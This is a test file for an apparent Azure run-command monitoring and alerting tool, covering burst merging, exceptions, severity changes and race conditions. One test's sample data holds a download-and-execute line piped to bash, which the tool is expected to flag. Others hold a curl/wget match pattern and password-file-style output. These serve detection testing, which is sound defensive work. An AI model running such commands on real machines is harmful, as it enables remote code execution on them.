import { randomUUID } from 'node:crypto';
import { createAzure } from '../../src/azure/azure';
import { messageOf } from '../../src/chat/message';
import { recordsOf } from '../../src/demo/tenant/records';
import { startTenant, type Tenant } from '../../src/demo/tenant/tenant';
import { addChild, addMachine, populateTenant, subscriptions, type World } from '../../src/demo/world';
import type { ActivityEvent } from '../../src/domain/activity/activity-event';
import { normalize } from '../../src/domain/activity/read-record';
import { type Alert, newAlert, summarize } from '../../src/domain/alerts/alert';
import { judge } from '../../src/domain/alerts/judge';
import { defaultPoints } from '../../src/domain/alerts/score';
import { close, contain } from '../../src/domain/alerts/transitions';
import type { Exception } from '../../src/domain/exceptions/exception';
import { type Execution, executionFrom } from '../../src/domain/techniques/execution';
import { loadConfig } from '../../src/load-config';
import { withinLimits } from '../../src/pipeline/enrich/enrich-script';
import { complete, type IngestDeps, ingest } from '../../src/pipeline/ingest';
import { createQueues, type Queues } from '../../src/pipeline/queues';
import { createGeoDatabases } from '../../src/runtime/geo-databases';
import { contentHashes } from '../../src/runtime/keyring';
import { createLog } from '../../src/runtime/log';
import { createMetrics } from '../../src/runtime/metrics';
import { untouched } from '../support/alerts';
import { type OwnStore, startStore, testKeyring } from '../support/store';

const runCommand = 'Microsoft.Compute/virtualMachines/runCommand/action';
const managedRunCommand = 'Microsoft.Compute/virtualMachines/runCommands/write';

let tenant: Tenant;
let world: World;
let own: OwnStore;
let queues: Queues;
let deps: IngestDeps;

beforeEach(async () => {
  tenant = await startTenant();
  world = populateTenant(tenant);
  own = await startStore(['slack']);
  const config = loadConfig(env());
  const log = createLog('silent');
  queues = createQueues(own.address, log);
  deps = {
    store: own.store,
    azure: createAzure(config, { tlsOptions: { ca: tenant.ca }, graphEndpoint: tenant.endpoint }),
    policy: { environments: { dev: { tags: { env: 'dev' } }, production: { tags: { env: 'prod' } } } },
    queues,
    geo: createGeoDatabases(),
    metrics: createMetrics(),
    log,
    judging: { points: defaultPoints },
    detections: {},
    hashes: contentHashes(testKeyring),
    keyring: testKeyring,
    now: Date.now,
  };
});

afterEach(async () => {
  await queues.close();
  await own.stop();
  await tenant.stop();
});

const env = () => ({
  AZURE_RESOURCE_MANAGER_ENDPOINT: tenant.endpoint,
  AZURE_ACCESS_TOKEN: tenant.token,
  RUNWATCH_DATA_DIR: own.dir,
});

const start = Date.now() - 300_000;

function machine(name: string, tags: Record<string, string> = {}): string {
  return addMachine(tenant, name, { subscription: subscriptions.payments, resourceGroup: 'rg-burst', tags });
}

/** The events of one command by Dana. */
function ran(
  resourceId: string,
  at = start,
  fields: Partial<Parameters<typeof recordsOf>[0]> = {},
): ActivityEvent[] {
  const operation = {
    name: runCommand,
    resourceId,
    caller: world.people.dana,
    ip: '203.0.113.24',
    at,
    tookMs: 5000,
    ...fields,
  };
  return recordsOf({ ...operation, correlationId: randomUUID() }, tenant.state.tenantId).flatMap((record) => {
    const result = normalize(record);
    return 'event' in result ? [result.event] : [];
  });
}

const denied = (resourceId: string, at = start) => ran(resourceId, at, { outcome: 'Forbidden' });

const except = (id: string, match: Exception['match']): Promise<unknown> => {
  const expires = new Date(Date.now() + 86_400_000).toISOString();
  return own.store.exceptions.put({ id, match, reason: 'expected', owner: 'dana', expires }, [], id);
};

const add = (...events: ActivityEvent[][]) => ingest({ events: events.flat() }, deps);
const stored = async (): Promise<Alert[]> =>
  (await own.store.alerts.list()).sort((a, b) => (a.id < b.id ? -1 : 1));
const shown = async () => (await stored()).filter(({ mergedInto }) => mergedInto === null);
const facts = (alert: Alert) =>
  messageOf(untouched(alert), { responders: true, now: Date.now() })
    .page()
    .facts.map(
      ({ label, value }) =>
        `${label}: ${value.map((part) => (typeof part === 'string' ? part : '')).join('')}`,
    );

test('of a burst of twelve machines, an exception by tag covers the one that has the tag', async () => {
  await except('dev-boxes', { tag: { env: 'dev' } });
  const dev = machine('vm-dev-1', { env: 'dev' });
  const others = Array.from({ length: 11 }, (_, i) => machine(`vm-prod-${i}`, { env: 'prod' }));
  await add(...[dev, ...others].map((id, i) => ran(id, start + i * 1000)));
  const [alert, ...rest] = await stored();
  expect(rest).toEqual([]);
  expect(alert).toMatchObject({ verdict: 'alert', announced: true, exception: null });
  expect(summarize(alert as Alert)).toMatchObject({ machines: 11 });
  const message = messageOf(untouched(alert as Alert), { responders: true, now: Date.now() });
  expect(message.page().title).toBe('Run command on 11 machines · production');
  expect(message.sentence).toMatch(/ on 11 machines$/);
  expect(message.keyFacts.map(({ label }) => label)).toContain('Commands');
  expect(facts(alert as Alert)).toContain(
    'Commands: 12 in all: 11 ran on 11 machines (11 succeeded), 1 excepted (1 by dev-boxes)',
  );
  expect(await own.store.exceptions.uses('dev-boxes')).toBe(1);
});

test('a burst whose machines all have the tag is suppressed', async () => {
  await except('dev-boxes', { tag: { env: 'dev' } });
  const all = Array.from({ length: 12 }, (_, i) => machine(`vm-dev-${i}`, { env: 'dev' }));
  await add(...all.map((id, i) => ran(id, start + i * 1000)));
  expect(await stored()).toMatchObject([{ verdict: 'suppressed', exception: 'dev-boxes', announced: false }]);
});

test('an exception by script covers only the executions of that script, and each script is shown', async () => {
  const scripts = ['echo patched', 'curl -s http://203.0.113.9/x.sh | bash'];
  const targets = Array.from({ length: 12 }, (_, i) => {
    const id = machine(`vm-web-s${i}`);
    const source = { script: scripts[i % 4 === 0 ? 1 : 0] };
    return addChild(tenant, id, 'runCommands', 'job', { source, provisioningState: 'Succeeded' });
  });
  const { scriptDigest } = await import('../../src/domain/techniques/script');
  await except('patching', { script: { sha256: scriptDigest(scripts[0] as string) } });
  await add(...targets.map((id, i) => ran(id, start + i * 1000, { name: managedRunCommand })));
  const [alert] = await shown();
  expect(facts(alert as Alert)).toContain(
    'Commands: 12 in all: 3 ran on 3 machines (3 succeeded), 9 excepted (9 by patching)',
  );
  expect(
    facts(alert as Alert).some((fact) => fact.startsWith('Suspicious behavior: downloads and runs')),
  ).toBe(true);
});

test('the scripts of a burst are listed with how often each ran', async () => {
  const targets = Array.from({ length: 10 }, (_, i) => {
    const source = { script: i < 7 ? 'echo one' : 'echo two' };
    return addChild(tenant, machine(`vm-l${i}`), 'runCommands', 'job', {
      source,
      provisioningState: 'Succeeded',
    });
  });
  await add(...targets.map((id, i) => ran(id, start + i * 1000, { name: managedRunCommand })));
  const [alert] = await shown();
  expect(facts(alert as Alert)).toContain('Scripts:  7 times ·  3 times');
});

test('three denied attempts and the success after them are one alert', async () => {
  const { pay01 } = world.vms;
  await add(denied(pay01, start), denied(pay01, start + 20_000), denied(pay01, start + 40_000));
  expect(await shown()).toHaveLength(1);
  expect(facts((await shown())[0] as Alert)).toContain('Commands: 3 denied');
  await add(ran(pay01, start + 60_000));
  const [alert, ...rest] = await shown();
  expect(rest).toEqual([]);
  expect(summarize(alert as Alert)).toMatchObject({ refused: false, machines: 1 });
  expect(facts(alert as Alert)).toContain('Commands: 4 in all: 1 ran (1 succeeded), 3 denied on vm-pay-01');
});

test('at the tenth machine, the alerts of the first nine become part of the burst', async () => {
  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-b${i}`));
  const events = ids.map((id, i) => ran(id, start + i * 1000));
  await add(...events.slice(0, 9));
  expect(await shown()).toHaveLength(9);
  await add(events[9] as ActivityEvent[]);
  const [burst, ...rest] = await shown();
  expect(rest).toEqual([]);
  expect(burst?.executions).toHaveLength(10);
  const merged = (await stored()).filter(({ mergedInto }) => mergedInto !== null);
  expect(merged.map(({ mergedInto, state }) => [mergedInto, state])).toEqual(
    new Array(9).fill([burst?.id, 'closed']),
  );
  const [first] = merged;
  const message = messageOf(untouched(first as Alert), { responders: true, now: 0 });
  const text = JSON.stringify([message, message.page(), message.thread()]);
  expect(text).toContain(`Merged into ${burst?.id}`);
  expect(text).not.toContain('"reopen"');
  await add(...events);
  expect((await shown()).map(({ id, rev }) => [id, rev])).toEqual([[burst?.id, burst?.rev]]);
});

test('a later event of an execution whose alert was merged goes to the burst', async () => {
  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-c${i}`));
  const [first, ...others] = ids.map((id, i) => ran(id, start + i * 1000));
  await add((first as ActivityEvent[]).slice(0, 1));
  await add(...others);
  const [burst] = await shown();
  expect(burst?.executions[0]?.status).toBe('started');
  await add((first as ActivityEvent[]).slice(1));
  expect((await shown())[0]?.executions[0]?.status).toBe('succeeded');
  expect(await shown()).toHaveLength(1);
});

test('after an alert was closed, the same caller’s next command raises a new one', async () => {
  await add(ran(world.vms.pay01, start));
  const [alert] = await shown();
  const by = { surface: 'slack', id: 'U1', name: 'Sam' };
  await own.store.alerts.update(alert?.id ?? '', (current) => ({
    alert: close(current as Alert, 'benign', { by, at: new Date().toISOString() }),
  }));
  await add(ran(world.vms.pay01, start + 60_000));
  expect(await shown()).toHaveLength(2);
});

test('when a shown alert becomes more severe, a notice and the message say so', async () => {
  await add(ran(world.vms.pay01, start));
  const [before] = await shown();
  const more = Array.from({ length: 12 }, (_, i) => ran(world.vms.pay01, start + (i + 1) * 1000));
  await add(...more);
  const [alert] = await shown();
  expect([before?.severity, alert?.severity]).not.toEqual([alert?.severity, before?.severity]);
  expect(alert?.scoreChanges).toMatchObject([
    { from: { severity: before?.severity }, to: { severity: alert?.severity, score: alert?.score } },
  ]);
  expect(alert?.reasons.find(({ id }) => id === 'burst')).toMatchObject({ addedAt: expect.any(String) });
  expect(alert?.reasons.find(({ id }) => id === 'production')).not.toHaveProperty('addedAt');
  const text = JSON.stringify(messageOf(untouched(alert as Alert), { responders: true, now: 0 }).status);
  expect(text).toContain(`raised from ${before?.severity} to ${alert?.severity}: 13 commands in a minute`);
  const [notice] = await own.store.deliveries
    .undeliveredIds('slack', Date.now() + 3_600_000)
    .then(({ ids }) => ids.filter((id) => id.startsWith('notice-severity')));
  expect(notice).toContain(alert?.id);
});

test('a role that its holder assigned to themselves is scored', async () => {
  const { people, groups, vms } = world;
  await add(ran(vms.pay02));
  const [before] = await shown();
  expect(before?.reasons.map(({ text }) => text)).not.toContain('assigned the role to themselves');
  for (const { id, properties } of tenant.resources.ofType('Microsoft.Authorization/roleAssignments'))
    if (properties.principalId === groups.oncall.id)
      tenant.resources.get(id).properties.createdBy = people.dana.id;
  const config = loadConfig(env());
  deps.azure = createAzure(config, { tlsOptions: { ca: tenant.ca }, graphEndpoint: tenant.endpoint });
  await add(ran(vms.pay01));
  const after = (await shown()).find(({ id }) => id !== before?.id);
  expect(after?.reasons).toContainEqual({
    id: 'selfAssigned',
    points: 20,
    text: 'assigned the role to themselves',
  });
});

/** A process that stops after it assigned executions, until `go` is called. */
function paused(): { process: IngestDeps; stopped: Promise<void>; go: () => void } {
  let go = () => {};
  let stop = () => {};
  const opened = new Promise<void>((done) => {
    go = done;
  });
  const stopped = new Promise<void>((done) => {
    stop = done;
  });
  const list = async () => {
    stop();
    await opened;
    return own.store.exceptions.list();
  };
  const store = { ...own.store, exceptions: { ...own.store.exceptions, list } };
  return { process: { ...deps, store }, stopped, go };
}

const closeAs = (id: string) =>
  own.store.alerts.update(id, (current) => ({
    alert: close(current as Alert, 'benign', { by: sam, at: new Date().toISOString() }),
  }));
const sam = { surface: 'slack', id: 'U1', name: 'Sam' };
const noticesOf = async (kind: string) =>
  (await own.store.deliveries.undeliveredIds('slack', Date.now() + 3_600_000)).ids.filter((id) =>
    id.startsWith(`notice-${kind}`),
  );

test('a command that comes while its alert is merged is not lost', async () => {
  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-d${i}`));
  await add(ran(ids[0] as string, start));
  const slow = paused();
  const second = ran(ids[0] as string, start + 20_000);
  const first = ingest({ events: second }, slow.process);
  await slow.stopped;
  const merging = paused();
  const others = ingest(
    { events: ids.slice(1).flatMap((id, i) => ran(id, start + 1000 * i)) },
    merging.process,
  );
  await merging.stopped;
  slow.go();
  await first;
  merging.go();
  await others;
  const [burst, ...rest] = await shown();
  expect(rest).toEqual([]);
  expect(burst?.executions).toHaveLength(11);
});

test('a command that reaches an alert while a person closes it reopens the alert', async () => {
  await add(ran(world.vms.pay01));
  const [alert] = await shown();
  const slow = paused();
  const second = ingest({ events: ran(world.vms.pay01, start + 20_000) }, slow.process);
  await slow.stopped;
  await closeAs(alert?.id ?? '');
  slow.go();
  await second;
  expect(await shown()).toMatchObject([{ state: 'new', closedAs: null, executions: [{}, {}] }]);
  const [reopened] = await shown();
  expect(reopened?.history.map(({ to }) => to)).toEqual(['closed', 'new']);
  const { status } = messageOf(untouched(reopened as Alert), { responders: true, now: 0 });
  expect(JSON.stringify(status)).toContain('Reopened: 1 more command by this caller');
  expect(JSON.stringify(status)).not.toContain('Acknowledged');
  const entries = await own.store.audit.read({ limit: 10 });
  expect(entries.find(({ action }) => action === 'reopen')).toMatchObject({
    by: { surface: 'runwatch' },
    why: '1 more command by this caller',
  });
});

test('what was shown stays shown when it becomes part of a burst that an exception covers', async () => {
  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-e${i}`));
  await add(ran(ids[0] as string, start));
  await except('added-later', { target: 'vm-e*' });
  await add(...ids.slice(1).map((id, i) => ran(id, start + 1000 * (i + 1))));
  const [burst, ...rest] = await shown();
  expect(rest).toEqual([]);
  expect(burst).toMatchObject({ announced: true, verdict: 'alert' });
  expect(summarize(burst as Alert)).toMatchObject({ machines: 1 });
});

test('questions and notes of a merged alert stay on the burst', async () => {
  const ids = Array.from({ length: 10 }, (_, i) => machine(`vm-f${i}`));
  await add(ran(ids[0] as string, start));
  const [alert] = await shown();
  const note = { at: new Date().toISOString(), by: sam, text: 'called them' };
  await own.store.alerts.update(alert?.id ?? '', (current) => ({
    alert: { ...(current as Alert), triage: { notes: [note] } },
  }));
  await add(...ids.slice(1).map((id, i) => ran(id, start + 1000 * (i + 1))));
  expect((await shown())[0]?.triage.notes).toEqual([note]);
});

test('denied attempts of the same alert count before the command that ran', async () => {
  const ids = Array.from({ length: 12 }, (_, i) => machine(`vm-g${i}`));
  await add(...ids.map((id, i) => denied(id, start + i * 1000)), ran(ids[0] as string, start + 30_000));
  const [alert] = await shown();
  expect(alert?.reasons).toContainEqual({
    id: 'refusalsBefore',
    points: 12,
    text: '12 denied attempts just before',
  });
});

test('a contained alert that gets a new machine is not contained, and one notice says so', async () => {
  const ids = Array.from({ length: 13 }, (_, i) => machine(`vm-h${i}`));
  await add(...ids.slice(0, 10).map((id, i) => ran(id, start + i * 1000)));
  const [burst] = await shown();
  await own.store.alerts.update(burst?.id ?? '', (current) => ({
    alert: contain(current as Alert, { by: sam, at: new Date().toISOString() }),
  }));
  await add(ran(ids[10] as string, start + 11_000), ran(ids[11] as string, start + 12_000));
  const [grown] = await shown();
  expect(grown).toMatchObject({ state: 'investigating' });
  const reasons = grown?.scoreChanges.flatMap((change) => change.reasons);
  expect(reasons).toContainEqual(
    expect.objectContaining({
      kind: 'changed',
      was: expect.stringContaining('10 machines'),
      text: expect.stringContaining('12 machines'),
    }),
  );
  const message = messageOf(untouched(grown as Alert), { responders: true, now: 0 });
  expect(JSON.stringify(message.status)).toContain('2 more commands since someone responded');
  expect(JSON.stringify(message.status)).toContain('No longer contained: 2 more commands by this caller');
  expect(await noticesOf('more')).toHaveLength(1);
  await add(ran(ids[12] as string, start + 13_000));
  expect(await noticesOf('more')).toHaveLength(1);
});

test('a slower process does not take back what a faster one found', async () => {
  const ids = Array.from({ length: 13 }, (_, i) => machine(`vm-i${i}`));
  await add(...ids.slice(0, 10).map((id, i) => ran(id, start + i * 1000)));
  const slow = paused();
  const first = ingest({ events: ran(ids[10] as string, start + 11_000) }, slow.process);
  await slow.stopped;
  await add(ran(ids[11] as string, start + 12_000), ran(ids[12] as string, start + 13_000));
  slow.go();
  await first;
  const [job] = await queues.complete.getJobs(['waiting', 'delayed', 'prioritized']);
  if (job) await complete(job.data, deps);
  const [alert] = await shown();
  expect(alert?.executions).toHaveLength(13);
  expect(alert?.facts.history?.newMachines).toHaveLength(13);
});

test('a pattern is searched once for all executions of a script', async () => {
  const text = 'echo patched\n'.repeat(8000);
  const executions = Array.from({ length: 1500 }, (_, i) => machine(`vm-j${i}`)).map(
    (id, i) => executionFrom((ran(id, start + i) as [ActivityEvent])[0]) as Execution,
  );
  const script = { text, sha256: 'a'.repeat(64), parameters: [], runAs: null, redacted: [], traits: [] };
  const run = { script: 's', output: null, exitCode: 0, redacted: [], final: true };
  const alert = {
    ...newAlert('RW-1', executions, new Date().toISOString()),
    facts: { scripts: { s: script }, runs: Object.fromEntries(executions.map(({ key }) => [key, run])) },
  };
  const expires = new Date(Date.now() + 86_400_000).toISOString();
  const exception = {
    id: 'ex',
    match: { script: { pattern: '(?i)(curl|wget).*agent' } },
    reason: 'r',
    owner: 'o',
    expires,
  };
  const began = Date.now();
  judge(alert, [exception], { points: defaultPoints });
  expect(Date.now() - began).toBeLessThan(1500);
});

test('what a slower reader saw before the end does not replace the output', async () => {
  const vm = machine('vm-race');
  const properties = { source: { script: 'echo a' }, provisioningState: 'Running' };
  const child = addChild(tenant, vm, 'runCommands', 'job', properties);
  const events = ran(child, start, { name: managedRunCommand });
  const { azure } = deps;
  let go = () => {};
  const opened = new Promise<void>((done) => {
    go = done;
  });
  let wasRead = () => {};
  const read = new Promise<void>((done) => {
    wasRead = done;
  });
  const slow = {
    ...azure,
    machineNow: async (id: string) => {
      await opened;
      return azure.machineNow(id);
    },
    readProperties: async (id: string, version: string) => {
      const held = await azure.readProperties(id, version);
      wasRead();
      return held;
    },
  };
  const first = ingest({ events: events.slice(0, 1) }, { ...deps, azure: slow });
  await read;
  Object.assign(tenant.resources.get(child).properties, {
    provisioningState: 'Succeeded',
    instanceView: { executionState: 'Succeeded', exitCode: 0, output: 'root:x:0:0' },
  });
  await ingest({ events: events.slice(1) }, deps);
  go();
  await first;
  const [alert] = await shown();
  expect(Object.values(alert?.facts.runs ?? {})).toMatchObject([{ output: 'root:x:0:0', final: true }]);
});

test('scripts that come one by one are kept within one limit for the alert', () => {
  const scripts = Object.fromEntries(
    Array.from({ length: 40 }, (_, i) => {
      const text = 'x'.repeat(100_000);
      return [`s${i}`, { text, sha256: null, parameters: [], runAs: null, redacted: [], traits: [] }];
    }),
  );
  const kept = Object.values(withinLimits({ scripts }).scripts ?? {});
  expect(kept).toHaveLength(40);
  expect(kept.reduce((sum, { text }) => sum + (text?.length ?? 0), 0)).toBeLessThanOrEqual(1_000_000);
});

test('facts that wait for Azure’s read limit are asked for until it answers', async () => {
  tenant.faults.add({ when: /virtualMachines\/vm-pay-01/, status: 429, headers: { 'retry-after': '100' } });
  await add(ran(world.vms.pay01));
  const [alert] = await shown();
  expect(alert?.facts.missing).toMatchObject([{ what: 'the machine', limited: true }]);
  await complete({ alertId: alert?.id ?? '' }, deps);
  const waiting = await queues.complete.getJobs(['delayed']);
  expect(waiting.map(({ opts }) => opts.delay)).toContain(60_000);
});

test('one job reads the history of a caller once, however many alerts it raises', async () => {
  const { history } = own.store;
  let reads = 0;
  const of = (caller: string) => {
    reads++;
    return history.of(caller);
  };
  const ids = [machine('vm-k1'), machine('vm-k2'), machine('vm-k3')];
  const events = ids.flatMap((id, i) => ran(id, start + i * 1000));
  await ingest({ events }, { ...deps, store: { ...own.store, history: { ...history, of } } });
  expect(await shown()).toHaveLength(3);
  expect(reads).toBe(1);
});
